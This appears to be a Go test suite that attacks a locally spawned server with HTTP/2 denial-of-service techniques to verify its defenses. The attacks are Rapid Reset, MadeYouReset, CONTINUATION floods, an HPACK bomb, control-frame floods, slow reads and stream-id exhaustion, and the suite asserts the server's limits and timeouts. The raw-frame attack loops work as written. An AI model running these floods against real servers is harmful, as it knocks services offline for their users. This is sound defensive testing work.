//go:build linux

package server

// End-to-end HTTP/2 attacks against a child server on each engine (harness
// in attack_util_test.go; the unit-level forms of the same attacks are in
// h2/attack_test.go). Each attack runs from concurrent raw clients for a
// bounded time while an ordinary HTTP/2 client is served; each logs one row
// of the table (go test -run TestAttackH2 -v).

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net"
	"os"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// atH2 is a raw HTTP/2 client connection: frames are written into buf
// and sent by flush; a reader goroutine (unless the client does not read)
// consumes the server's frames and counts them.
type atH2 struct {
	nc     net.Conn
	cnt    *atCount
	scheme string
	buf    bytes.Buffer
	fr     *http2.Framer
	hb     bytes.Buffer
	enc    *hpack.Encoder
	done   chan struct{} // the reader has stopped: the server closed
	read   bool          // the reader runs (else done is closed at once)
	goaway atomic.Int64  // GOAWAY's code + 1; 0: none yet
	heads  atomic.Int64  // response HEADERS received
	s431   atomic.Int64  // of which status 431
	resets atomic.Int64  // RST_STREAM received
	data   atomic.Int64  // DATA payload bytes received
	ack    atomic.Uint64 // the last PING ACK's payload
	pings  uint64        // PINGs sent by sync
}

// atDialH2 opens an HTTP/2 connection to addr (h2 over TLS when cfg is not
// nil, else h2c), sends the preface, SETTINGS (settings) and a connection
// WINDOW_UPDATE to the largest window, and starts the reader when read.
func atDialH2(ctx context.Context, cnt *atCount, addr string, cfg *tls.Config, read bool, settings ...http2.Setting) (*atH2, error) {
	nc, err := atDial(ctx, cnt, addr, cfg)
	if err != nil {
		return nil, err
	}
	a := &atH2{nc: nc, cnt: cnt, scheme: "http", done: make(chan struct{}), read: read}
	if cfg != nil {
		a.scheme = "https"
		if p := nc.(*tls.Conn).ConnectionState().NegotiatedProtocol; p != "h2" {
			nc.Close()
			cnt.note("ALPN chose %q", p)
			return nil, net.ErrClosed
		}
	}
	a.fr = http2.NewFramer(&a.buf, nil)
	a.fr.AllowIllegalWrites = true
	a.enc = hpack.NewEncoder(&a.hb)
	a.buf.WriteString(http2.ClientPreface)
	a.fr.WriteSettings(settings...)
	a.fr.WriteWindowUpdate(0, 1<<31-1-65535)
	if read {
		go a.reader()
	} else {
		close(a.done)
	}
	if err := a.flush(); err != nil {
		a.nc.Close()
		return nil, err
	}
	return a, nil
}

// reader reads the server's frames until the connection ends.
func (a *atH2) reader() {
	defer close(a.done)
	fr := http2.NewFramer(nil, bufio.NewReaderSize(a.nc, 64<<10))
	fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	fr.SetMaxReadFrameSize(1 << 24)
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			return
		}
		switch f := f.(type) {
		case *http2.GoAwayFrame:
			if a.goaway.CompareAndSwap(0, int64(f.ErrCode)+1) {
				a.cnt.goaways.Add(1)
				if f.ErrCode == http2.ErrCodeEnhanceYourCalm {
					a.cnt.calm.Add(1)
				}
			}
		case *http2.MetaHeadersFrame:
			a.heads.Add(1)
			if f.PseudoValue("status") == "431" {
				a.s431.Add(1)
			}
		case *http2.RSTStreamFrame:
			a.resets.Add(1)
		case *http2.DataFrame:
			a.data.Add(int64(len(f.Data())))
		case *http2.PingFrame:
			if f.IsAck() {
				a.ack.Store(binary.BigEndian.Uint64(f.Data[:]))
			}
		}
	}
}

// flush sends the frames written so far. A write blocked for 5 s (the
// server neither reads nor closes) is noted and fails.
func (a *atH2) flush() error {
	a.nc.SetWriteDeadline(time.Now().Add(5 * time.Second))
	n, err := a.nc.Write(a.buf.Bytes())
	a.cnt.bytes.Add(int64(n))
	a.buf.Reset()
	if skIsTimeout(err) {
		a.cnt.note("a write blocked for 5 s: the server neither reads nor closes")
	}
	return err
}

// sync sends what was written and a PING, and waits (bounded by ctx and
// 2 s) for its ACK: then the server has processed everything before it. It
// reports whether the ACK came (false: the server sent GOAWAY or closed).
func (a *atH2) sync(ctx context.Context) bool {
	a.pings++
	var p [8]byte
	binary.BigEndian.PutUint64(p[:], a.pings)
	a.fr.WritePing(false, p)
	if a.flush() != nil {
		return false
	}
	end := time.Now().Add(2 * time.Second)
	for a.ack.Load() != a.pings {
		if a.gone() || ctx.Err() != nil {
			return false
		}
		if time.Now().After(end) {
			a.cnt.note("no PING ACK after 2 s")
			return false
		}
		time.Sleep(50 * time.Microsecond)
	}
	return true
}

// gone reports whether the server sent GOAWAY or closed (as far as a
// client that does not read can know: never).
func (a *atH2) gone() bool {
	if a.goaway.Load() != 0 {
		return true
	}
	if !a.read {
		return false
	}
	select {
	case <-a.done:
		return true
	default:
		return false
	}
}

// goawayCode returns the GOAWAY's code, ok false when none came.
func (a *atH2) goawayCode() (http2.ErrCode, bool) {
	v := a.goaway.Load()
	return http2.ErrCode(v - 1), v != 0
}

// close closes the connection.
func (a *atH2) close() { a.nc.Close() }

// get writes a request for path on stream id (END_STREAM when end).
func (a *atH2) get(id uint32, path string, end bool) {
	a.hb.Reset()
	a.enc.WriteField(hpack.HeaderField{Name: ":method", Value: "GET"})
	a.enc.WriteField(hpack.HeaderField{Name: ":scheme", Value: a.scheme})
	a.enc.WriteField(hpack.HeaderField{Name: ":authority", Value: "localhost"})
	a.enc.WriteField(hpack.HeaderField{Name: ":path", Value: path})
	a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.hb.Bytes(), EndStream: end, EndHeaders: true})
}

// post writes the HEADERS of a POST on stream id, its body to follow.
func (a *atH2) post(id uint32, path string) {
	a.hb.Reset()
	a.enc.WriteField(hpack.HeaderField{Name: ":method", Value: "POST"})
	a.enc.WriteField(hpack.HeaderField{Name: ":scheme", Value: a.scheme})
	a.enc.WriteField(hpack.HeaderField{Name: ":authority", Value: "localhost"})
	a.enc.WriteField(hpack.HeaderField{Name: ":path", Value: path})
	a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.hb.Bytes(), EndHeaders: true})
}

// atH2Loop runs body on successive connections until ctx is done: body
// attacks one connection and returns when the server sent GOAWAY or
// closed (or ctx is done).
func atH2Loop(ctx context.Context, cnt *atCount, addr string, cfg *tls.Config, read bool, settings []http2.Setting, body func(a *atH2)) {
	for ctx.Err() == nil {
		a, err := atDialH2(ctx, cnt, addr, cfg, read, settings...)
		if err != nil {
			continue
		}
		body(a)
		if ctx.Err() == nil && read {
			// The GOAWAY's close: wait for it (bounded) so the reader
			// has counted everything.
			select {
			case <-a.done:
			case <-time.After(2 * time.Second):
				cnt.note("connection not closed 2 s after GOAWAY %d", a.goaway.Load()-1)
			}
		}
		a.close()
	}
}

// atOutstanding waits (bounded by ctx and 2 s) until a has at most max
// requests without a response of the sent ones, or the server is gone. It
// reports whether the attack may go on.
func atOutstanding(ctx context.Context, a *atH2, sent int64, limit int64) bool {
	end := time.Now().Add(2 * time.Second)
	for sent-a.heads.Load() > limit {
		if a.gone() || ctx.Err() != nil {
			return false
		}
		if time.Now().After(end) {
			a.cnt.note("%d responses of %d requests after 2 s", a.heads.Load(), sent)
			return false
		}
		time.Sleep(time.Millisecond)
	}
	return !a.gone() && ctx.Err() == nil
}

// TestAttackH2 runs the HTTP/2 attacks on each engine.
func TestAttackH2(t *testing.T) {
	atEngines(t, func(t *testing.T, a *atChild) {
		t.Run("RapidReset", func(t *testing.T) { atRapidReset(t, a, false, "/mem/100") })
		t.Run("RapidResetTLS", func(t *testing.T) { atRapidReset(t, a, true, "/mem/100") })
		t.Run("RapidResetOps", func(t *testing.T) { atRapidReset(t, a, false, "/op/2") })
		t.Run("MadeYouReset", func(t *testing.T) { atMadeYouReset(t, a) })
		t.Run("ContinuationFlood", func(t *testing.T) { atContinuationFlood(t, a, 4096) })
		t.Run("ContinuationEmpty", func(t *testing.T) { atContinuationFlood(t, a, 0) })
		t.Run("HPACKBomb", func(t *testing.T) { atHPACKBomb(t, a) })
		t.Run("SettingsFlood", func(t *testing.T) { atControlFlood(t, a, "SETTINGS") })
		t.Run("PingFlood", func(t *testing.T) { atControlFlood(t, a, "PING") })
		t.Run("EmptyFrames", func(t *testing.T) { atControlFlood(t, a, "empty") })
		t.Run("PingFloodNoRead", func(t *testing.T) { atPingNoRead(t, a) })
		t.Run("ZeroWindow", func(t *testing.T) { atSlowRead(t, a, true) })
		t.Run("SlowRead", func(t *testing.T) { atSlowRead(t, a, false) })
		t.Run("StreamIDExhaustion", func(t *testing.T) { atStreamIDs(t, a) })
	})
}

// The attackers below that can pace themselves do: after each batch of
// frames a PING, and the next batch once its ACK came (atH2.sync). So a
// unit is counted only once the server has processed it, and the CPU per
// unit is the server's real cost, not diluted by frames written into a
// connection the server has already closed.

// atRapidReset: HEADERS + RST_STREAM pairs (CVE-2023-44487), 64 per
// batch, from 4 connections at a time. Each connection must end in GOAWAY
// ENHANCE_YOUR_CALM once its reset budget (256) is spent; a reset stream
// must cost the server no more than an ordinary request. With /op/ paths
// every stream also starts a handler op (a 2 ms OpFunc) and the ordinary
// client asks for an op too: the ops of reset streams must not pile up
// ahead of it.
func atRapidReset(t *testing.T, a *atChild, tlsOn bool, path string) {
	addr, cfg, client := a.plain, (*tls.Config)(nil), "h2c"
	if tlsOn {
		addr, cfg, client = a.tls, atClientTLS(t, "h2"), "h2tls"
	}
	name := "RapidReset " + path
	if tlsOn {
		name += " TLS"
	}
	r := a.run(t, atAttack{
		name: name, unit: "streams", attackers: 4, client: client,
		clientOp: strings.HasPrefix(path, "/op/"),
		run: func(ctx context.Context, cnt *atCount) {
			atH2Loop(ctx, cnt, addr, cfg, true, nil, func(h *atH2) {
				id := uint32(1)
				for ctx.Err() == nil {
					for i := 0; i < 64; i++ {
						h.get(id, path, true)
						h.fr.WriteRSTStream(id, http2.ErrCodeCancel)
						id += 2
					}
					if !h.sync(ctx) {
						return
					}
					cnt.units.Add(64)
				}
			})
		},
	})
	if r.cnt.calm.Load() == 0 {
		t.Errorf("no GOAWAY ENHANCE_YOUR_CALM in %d connections", r.conns)
	}
	if r.conns > 0 {
		served := r.req1 - r.req0
		t.Logf("  %d requests reached the handler, %.0f per connection", served, float64(served)/float64(r.conns))
		if perConn := served / r.conns; perConn > 3*128 {
			t.Errorf("%d requests handled per connection: the reset budget does not hold", perConn)
		}
	}
	r.maxPerUnit(t, a, func(b atBaseline) time.Duration { return 2 * b.req }, "2 ordinary requests")
	r.maxPeakGrowth(t, 64<<20)
}

// atMadeYouReset: requests followed by a frame that makes the server
// reset the stream (CVE-2025-8671): WINDOW_UPDATE 0, a WINDOW_UPDATE that
// overflows the window, DATA after END_STREAM, a PRIORITY that depends on
// its own stream. The resets are charged to the reset budget: GOAWAY
// ENHANCE_YOUR_CALM.
func atMadeYouReset(t *testing.T, a *atChild) {
	r := a.run(t, atAttack{
		name: "MadeYouReset", unit: "streams", attackers: 4,
		run: func(ctx context.Context, cnt *atCount) {
			atH2Loop(ctx, cnt, a.plain, nil, true, nil, func(h *atH2) {
				id := uint32(1)
				for ctx.Err() == nil {
					for i := 0; i < 64; i++ {
						h.get(id, "/mem/100", true)
						switch i % 4 {
						case 0:
							h.fr.WriteWindowUpdate(id, 0)
						case 1:
							h.fr.WriteWindowUpdate(id, 1<<31-1)
						case 2:
							h.fr.WriteData(id, false, []byte("x"))
						case 3:
							h.fr.WritePriority(id, http2.PriorityParam{StreamDep: id, Weight: 1})
						}
						id += 2
					}
					if !h.sync(ctx) {
						return
					}
					cnt.units.Add(64)
				}
			})
		},
	})
	if r.cnt.calm.Load() == 0 {
		t.Errorf("no GOAWAY ENHANCE_YOUR_CALM in %d connections", r.conns)
	}
	if r.conns > 0 {
		served := r.req1 - r.req0
		t.Logf("  %d requests reached the handler, %.0f per connection", served, float64(served)/float64(r.conns))
		if perConn := served / r.conns; perConn > 3*128 {
			t.Errorf("%d requests handled per connection: the reset budget does not hold", perConn)
		}
	}
	r.maxPerUnit(t, a, func(b atBaseline) time.Duration { return 2 * b.req }, "2 ordinary requests")
	r.maxPeakGrowth(t, 64<<20)
}

// atContinuationFlood: a HEADERS without END_HEADERS followed by
// CONTINUATION frames (CVE-2024-27316 family) of size bytes of literal
// fields each, or empty ones (size 0). The field block's bytes are bounded
// (or, empty, the junk budget is): GOAWAY ENHANCE_YOUR_CALM, then the
// attacker must reconnect. The attacker sends a little more than the
// bound (96 KiB of fields, 1100 empty frames), since nothing more is ever
// read, then waits for the GOAWAY. A unit is a KiB sent: byte for byte the
// flood must cost the server no more than ordinary requests.
func atContinuationFlood(t *testing.T, a *atChild, size int) {
	var frag []byte
	stop := 1100
	if size > 0 {
		var b bytes.Buffer
		enc := hpack.NewEncoder(&b)
		for i := 0; b.Len() < size-120; i++ {
			enc.WriteField(hpack.HeaderField{Name: "x-flood-" + strconv.Itoa(i), Value: string(bytes.Repeat([]byte{'v'}, 100)), Sensitive: true})
		}
		frag = b.Bytes()
		stop = 96 << 10 / len(frag)
	}
	name := "CONTINUATION 4KiB"
	if size == 0 {
		name = "CONTINUATION empty"
	}
	r := a.run(t, atAttack{
		name: name, unit: "KiB", attackers: 4,
		run: func(ctx context.Context, cnt *atCount) {
			var sent int64
			defer func() { cnt.units.Add(sent / 1024) }()
			atH2Loop(ctx, cnt, a.plain, nil, true, nil, func(h *atH2) {
				h.get(1, "/mem/100", true)
				// get wrote HEADERS with END_HEADERS: clear the flag.
				b := h.buf.Bytes()
				b[len(b)-h.hb.Len()-9+4] &^= 0x4
				for n := 0; n < stop && ctx.Err() == nil && !h.gone(); n += 16 {
					for i := 0; i < 16; i++ {
						h.fr.WriteContinuation(1, false, frag)
					}
					sent += int64(h.buf.Len())
					if h.flush() != nil {
						break
					}
				}
				select {
				case <-h.done:
				case <-ctx.Done():
				case <-time.After(2 * time.Second):
					cnt.note("no GOAWAY after %d CONTINUATION frames", stop)
				}
			})
		},
	})
	if r.cnt.calm.Load() == 0 {
		t.Errorf("no GOAWAY ENHANCE_YOUR_CALM in %d connections", r.conns)
	}
	if r.cnt.calm.Load() < r.conns-4 {
		t.Errorf("%d of %d connections ended by GOAWAY ENHANCE_YOUR_CALM", r.cnt.calm.Load(), r.conns)
	}
	r.maxPerUnit(t, a, func(b atBaseline) time.Duration { return b.kib }, "a KiB of ordinary requests")
	r.maxPeakGrowth(t, 64<<20)
}

// atHPACKBomb: a 4000-byte field enters the dynamic table once; then
// each request's field block references it 4000 times: 4 KiB on the wire,
// 16 MB decoded. The server stops collecting at its header limit and
// answers 431, decoding on without building strings; the connection stays
// usable, so the bombs go on for the whole attack, 32 in flight. A unit is
// a bomb answered.
func atHPACKBomb(t *testing.T, a *atChild) {
	const refs = 4000
	var big bytes.Buffer
	hpack.NewEncoder(&big).WriteField(hpack.HeaderField{Name: "x-bomb", Value: string(bytes.Repeat([]byte{'a'}, 4000))})
	// :method GET, :scheme http, :path "/mem/100" and :authority "x"
	// without indexing, so that the bomb stays entry 62.
	pseudo := []byte{0x82, 0x86, 0x04, 8, '/', 'm', 'e', 'm', '/', '1', '0', '0', 0x01, 1, 'x'}
	first := append(append([]byte(nil), pseudo...), big.Bytes()...)
	bomb := append(append([]byte(nil), pseudo...), bytes.Repeat([]byte{0x80 | 62}, refs)...)
	var s431 atomic.Int64
	frameLen := int64(9 + len(bomb))
	r := a.run(t, atAttack{
		name: "HPACK bomb", unit: "KiB", attackers: 4,
		run: func(ctx context.Context, cnt *atCount) {
			atH2Loop(ctx, cnt, a.plain, nil, true, nil, func(h *atH2) {
				defer func() {
					s431.Add(h.s431.Load())
					cnt.units.Add(max(h.heads.Load()-1, 0) * frameLen / 1024)
				}()
				h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: first, EndStream: true, EndHeaders: true})
				id, sent := uint32(3), int64(1)
				for ctx.Err() == nil && !h.gone() {
					for i := 0; i < 8; i++ {
						h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: bomb, EndStream: true, EndHeaders: true})
						id += 2
					}
					if h.flush() != nil {
						return
					}
					sent += 8
					if !atOutstanding(ctx, h, sent, 32) {
						return
					}
				}
			})
		},
	})
	if bombs := r.units * 1024 / frameLen; s431.Load() == 0 || s431.Load() < bombs-1 {
		t.Errorf("%d of %d bombs answered 431", s431.Load(), bombs)
	}
	if r.cnt.goaways.Load() > 0 {
		t.Errorf("%d connections closed: a 431 answer should keep the connection", r.cnt.goaways.Load())
	}
	t.Logf("  %d bombs answered 431 (%.0f MB each if expanded)", s431.Load(), refs*4032/1e6)
	// Byte for byte, a bomb costs less than ordinary requests: the
	// decoder's work follows the bytes on the wire, not the 16 MB they
	// stand for.
	r.maxPerUnit(t, a, func(b atBaseline) time.Duration { return b.kib }, "a KiB of ordinary requests")
	r.maxPeakGrowth(t, 64<<20)
}

// atControlFlood: frames that do no work, 64 per batch: SETTINGS (each
// acknowledged), PING (each answered), or "empty": empty DATA on an open
// request, PRIORITY for idle streams and frames of an unknown type. The
// junk budget (1000) ends each connection with GOAWAY ENHANCE_YOUR_CALM.
func atControlFlood(t *testing.T, a *atChild, kind string) {
	r := a.run(t, atAttack{
		name: kind + " flood", unit: "frames", attackers: 4,
		run: func(ctx context.Context, cnt *atCount) {
			atH2Loop(ctx, cnt, a.plain, nil, true, nil, func(h *atH2) {
				if kind == "empty" {
					h.post(1, "/echo")
				}
				for ctx.Err() == nil {
					for i := 0; i < 64; i++ {
						switch kind {
						case "SETTINGS":
							h.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(65535 + i)})
						case "PING":
							h.fr.WritePing(false, [8]byte{byte(i)})
						case "empty":
							switch i % 3 {
							case 0:
								h.fr.WriteData(1, false, nil)
							case 1:
								h.fr.WritePriority(uint32(1001+2*i), http2.PriorityParam{StreamDep: 1, Weight: 1})
							case 2:
								h.fr.WriteRawFrame(0x42, 0, 0, nil)
							}
						}
					}
					if !h.sync(ctx) {
						return
					}
					cnt.units.Add(64)
				}
			})
		},
	})
	if r.cnt.calm.Load() == 0 {
		t.Errorf("no GOAWAY ENHANCE_YOUR_CALM in %d connections", r.conns)
	}
	if r.conns > 0 && r.units/r.conns > 1100 {
		t.Errorf("%d frames per connection: the junk budget (1000) does not hold", r.units/r.conns)
	}
	r.maxPerUnit(t, a, func(b atBaseline) time.Duration { return b.req / 4 }, "1/4 ordinary request")
	r.maxPeakGrowth(t, 64<<20)
}

// atPingNoRead: a client asks for large bodies, reads nothing, and floods
// PINGs (twice the junk budget): the server's output is stuck, so the PING
// ACKs would queue. They are bounded (junk budget, queued control bytes);
// the server closes the connection (it may not be able to tell the
// client, whose window is closed: atWaitServerClosed looks at the
// server's socket). A unit is a KiB sent.
func atPingNoRead(t *testing.T, a *atChild) {
	var closed atomic.Int64
	r := a.run(t, atAttack{
		name: "PING flood no read", unit: "KiB", attackers: 4,
		run: func(ctx context.Context, cnt *atCount) {
			var sent int64
			defer func() { cnt.units.Add(sent / 1024) }()
			atH2Loop(ctx, cnt, a.plain, nil, false, nil, func(h *atH2) {
				for i := uint32(0); i < 4; i++ {
					h.get(2*i+1, "/mem/2000000", true)
				}
				for n := 0; n < 2*1000/64 && ctx.Err() == nil; n++ {
					for i := 0; i < 64; i++ {
						h.fr.WritePing(false, [8]byte{byte(i)})
					}
					sent += int64(h.buf.Len())
					if h.flush() != nil {
						break
					}
				}
				if ctx.Err() != nil {
					return
				}
				t0 := time.Now()
				if atWaitServerClosed(h.nc, atSendTimeout+3*time.Second) {
					closed.Add(1)
					cnt.closedAfter(time.Since(t0))
				} else {
					cnt.note("not closed %v after twice the junk budget", time.Since(t0))
				}
			})
		},
	})
	if ds := atSorted(r.cnt.closeAt); len(ds) > 0 {
		t.Logf("  %d connections closed by the server %v .. %v after the flood", len(ds), ds[0].Round(time.Millisecond), ds[len(ds)-1].Round(time.Millisecond))
	}
	if closed.Load() < r.conns/2 {
		t.Errorf("%d of %d connections closed by the server", closed.Load(), r.conns)
	}
	for _, n := range r.cnt.notes {
		t.Error(n)
	}
	r.maxPerUnit(t, a, func(b atBaseline) time.Duration { return b.kib }, "a KiB of ordinary requests")
	r.maxPeakGrowth(t, 64<<20)
}

// atSlowRead: clients that request large bodies and then do not take
// them. zeroWindow: SETTINGS_INITIAL_WINDOW_SIZE 0 and no WINDOW_UPDATE
// ever, so the server may send nothing but HEADERS (RFC 9113 flow
// control); otherwise the client's TCP receive window closes because it
// does not read. Either way the send timeout (1 s in the child) must
// close the connection, and the server holds no copy of the bodies.
func atSlowRead(t *testing.T, a *atChild, zeroWindow bool) {
	// The TCP form opens the HTTP/2 windows wide, so that only TCP's
	// receive window stops the bodies.
	name, settings := "slow read (TCP)", []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}}
	if zeroWindow {
		name, settings = "zero window", []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}
	}
	attackers := 8
	if skRace || testing.Short() {
		attackers = 4 // each pushes megabytes into socket buffers first
	}
	r := a.run(t, atAttack{
		name: name, unit: "conns", attackers: attackers,
		run: func(ctx context.Context, cnt *atCount) {
			atH2Loop(ctx, cnt, a.plain, nil, zeroWindow, settings, func(h *atH2) {
				for i := uint32(0); i < 8; i++ {
					h.get(2*i+1, "/mem/2000000", true)
				}
				if h.flush() != nil {
					return
				}
				t0 := time.Now()
				var closed bool
				if zeroWindow {
					select {
					case <-h.done:
						closed = true
					case <-time.After(atSendTimeout + 3*time.Second):
					}
					if h.data.Load() > 0 {
						cnt.note("%d DATA bytes sent into a zero window", h.data.Load())
					}
				} else {
					closed = atWaitServerClosed(h.nc, atSendTimeout+5*time.Second)
				}
				if !closed {
					cnt.note("%s: not closed after %v", name, time.Since(t0))
					return
				}
				cnt.units.Add(1)
				cnt.closedAfter(time.Since(t0))
			})
		},
	})
	ds := atSorted(r.cnt.closeAt)
	if len(ds) == 0 {
		t.Fatalf("no connection closed by the server (%d opened)", r.conns)
	}
	t.Logf("  %d connections closed by the server after %v (min) .. %v (max)", len(ds), ds[0].Round(time.Millisecond), ds[len(ds)-1].Round(time.Millisecond))
	if int64(len(ds)) < r.conns/2 {
		t.Errorf("only %d of %d stalled connections closed by the server", len(ds), r.conns)
	}
	// The send timer restarts whenever a send makes progress: a TCP slow
	// reader is closed a send timeout after its buffers filled up, which
	// takes a while on a loaded machine or under -race.
	slack := 2 * time.Second
	if !zeroWindow && skRace {
		slack = 4 * time.Second
	}
	if ds[0] < atSendTimeout/2 || ds[len(ds)-1] > atSendTimeout+slack {
		t.Errorf("connections closed after %v .. %v, want about the send timeout %v", ds[0], ds[len(ds)-1], atSendTimeout)
	}
	for _, n := range r.cnt.notes {
		t.Error(n)
	}
	// 8 stalled connections × 8 streams × 2 MB bodies: 128 MB if copied.
	r.maxPeakGrowth(t, 48<<20)
}

// atStreamIDs: stream ids that leap by random steps of up to 2^25 towards
// 2^31-1, every request served; at the last id the connection is used up
// and a HEADERS on an old id is a connection error. No state may grow
// with the ids: memory stays flat and a stream costs what an ordinary
// request does. A unit is a request answered.
func atStreamIDs(t *testing.T, a *atChild) {
	r := a.run(t, atAttack{
		name: "stream-id exhaustion", unit: "streams", attackers: 4,
		run: func(ctx context.Context, cnt *atCount) {
			rng := rand.New(rand.NewPCG(rand.Uint64(), 1))
			atH2Loop(ctx, cnt, a.plain, nil, true, nil, func(h *atH2) {
				defer func() { cnt.units.Add(h.heads.Load()) }()
				id, sent := uint32(1), int64(0)
				for ctx.Err() == nil && !h.gone() {
					for i := 0; i < 8 && id != 0; i++ {
						h.get(id, "/mem/100", true)
						sent++
						// About 128 ids per connection: enough to
						// use one up within the attack's time even
						// on an emulated kernel.
						step := 2 * (1 + rng.Uint32N(1<<24))
						switch {
						case id == 1<<31-1:
							id = 0 // used up
						case id > 1<<31-1-step:
							id = 1<<31 - 1
						default:
							id += step
						}
					}
					if h.flush() != nil || !atOutstanding(ctx, h, sent, 32) {
						return
					}
					if id == 0 {
						// Every id used: HEADERS on stream 1 again
						// ends the connection.
						atOutstanding(ctx, h, sent, 0)
						h.get(1, "/mem/100", true)
						h.flush()
						select {
						case <-h.done:
						case <-time.After(2 * time.Second):
							cnt.note("no close after the last stream id")
						}
						return
					}
				}
			})
		},
	})
	if r.cnt.goaways.Load() == 0 {
		t.Errorf("no connection reached the last stream id (%d streams, %d connections)", r.units, r.conns)
	}
	for _, n := range r.cnt.notes {
		t.Error(n)
	}
	r.maxPerUnit(t, a, func(b atBaseline) time.Duration { return 3 * b.req }, "3 ordinary requests")
	r.maxPeakGrowth(t, 64<<20)
}

// atWaitServerClosed waits, up to d, until the server no longer holds its
// end of nc (no socket of a process for that pair of ports in
// /proc/net/tcp): it closed the connection, whether or not its FIN or reset
// could reach a client that does not read. It reports whether it did.
func atWaitServerClosed(nc net.Conn, d time.Duration) bool {
	la, ra := nc.LocalAddr().(*net.TCPAddr), nc.RemoteAddr().(*net.TCPAddr)
	// /proc/net/tcp's local and remote addresses as the server sees them.
	want := fmt.Sprintf(":%04X", ra.Port)
	peer := fmt.Sprintf(":%04X", la.Port)
	end := time.Now().Add(d)
	for {
		held := false
		b, _ := os.ReadFile("/proc/net/tcp")
		for _, l := range strings.Split(string(b), "\n")[1:] {
			f := strings.Fields(l)
			if len(f) < 10 || !strings.HasSuffix(f[1], want) || !strings.HasSuffix(f[2], peer) {
				continue
			}
			// A process holds it (and it is not in TIME_WAIT), or it is
			// ESTABLISHED without an inode: still in the listener's
			// accept queue, which on a slow (emulated) machine lasts
			// long enough to be mistaken for a close.
			if (f[9] != "0" && f[3] != "06") || f[3] == "01" {
				held = true
			}
		}
		if !held {
			return true
		}
		if time.Now().After(end) {
			return false
		}
		time.Sleep(10 * time.Millisecond)
	}
}
